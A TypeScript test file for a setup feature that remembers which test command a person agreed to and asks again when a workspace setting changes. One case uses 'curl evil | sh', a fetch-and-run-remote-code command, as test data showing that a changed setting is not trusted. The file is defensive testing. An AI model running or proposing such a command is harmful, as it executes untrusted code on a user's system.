import assert from 'node:assert/strict';
import { knownCommand, suiteMemoryOf } from '../../../../src/ui/setup/suiteMemory';

describe('the test command that was agreed to', () => {
	for (const [title, memory, setting, known] of [
		['nothing is known the first time', undefined, '', { kind: 'ask' }],
		['a setting is asked about too', undefined, ' make test ', { kind: 'ask', command: 'make test' }],
		[
			'what was found and agreed to is found again',
			{ agreed: 'npm test', setting: '' },
			'',
			{ kind: 'agreed', shown: 'npm test' },
		],
		[
			'a setting that was agreed to stands',
			{ agreed: 'make test', setting: 'make test' },
			'make test',
			{ kind: 'agreed', shown: 'make test', command: 'make test' },
		],
		[
			'a setting that changed is asked about anew',
			{ agreed: 'make test', setting: 'make test' },
			'curl evil | sh',
			{ kind: 'ask', command: 'curl evil | sh' },
		],
		[
			"the person's own command comes before the setting",
			{ agreed: 'npx mocha', setting: 'make test', own: 'npx mocha' },
			'make test',
			{ kind: 'agreed', shown: 'npx mocha', command: 'npx mocha' },
		],
		[
			'until the setting is changed',
			{ agreed: 'npx mocha', setting: '', own: 'npx mocha' },
			'make test',
			{ kind: 'ask', command: 'make test' },
		],
	] as const) {
		it(title, () => assert.deepEqual(knownCommand(memory, setting), known));
	}

	it('believes only what is whole', () => {
		for (const broken of [undefined, null, 7, 'x', {}, { agreed: 1, setting: '' }, { agreed: 'x' }]) {
			assert.equal(suiteMemoryOf(broken), undefined);
		}
		const whole = { agreed: 'x', setting: '', own: 'x' };
		assert.deepEqual(suiteMemoryOf(whole), whole);
	});
});
